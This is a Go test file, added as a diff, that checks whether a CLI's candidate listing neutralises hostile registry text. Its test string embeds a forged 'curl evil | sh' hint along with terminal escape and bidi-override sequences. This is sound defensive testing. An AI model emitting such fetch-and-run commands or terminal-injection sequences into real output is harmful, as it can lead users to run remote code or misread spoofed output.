@@ -1,0 +1,28 @@
+package nodeverbs
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"mlpromote.dev/mlpromote/cmd/internal/ui"
+	"mlpromote.dev/mlpromote/registry"
+)
+
+// What the registry says about candidates ends no line of ours, and holds nothing that a terminal obeys.
+func TestNothingForgedAmongCandidates(t *testing.T) {
+	t.Parallel()
+	const hostile = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"
+	var stderr bytes.Buffer
+	candidates := registry.Resolution{Candidates: []registry.Candidate{{Label: hostile, Reasons: []string{hostile, hostile}}}}
+	ui.NewPlain("mlpromote", &stderr, &stderr).Note("candidates:\n%s", ui.Layout(candidatesText(candidates)))
+	lines := strings.Split(strings.TrimSuffix(stderr.String(), "\n"), "\n")
+	if len(lines) != 2 || !strings.Contains(lines[1], "done") {
+		t.Errorf("%d lines were printed, want one of ours and one for the candidate: %q", len(lines), lines)
+	}
+	for _, line := range lines {
+		if err := registry.ValidateText("line", line); err != nil {
+			t.Errorf("%v: %q", err, line)
+		}
+	}
+}
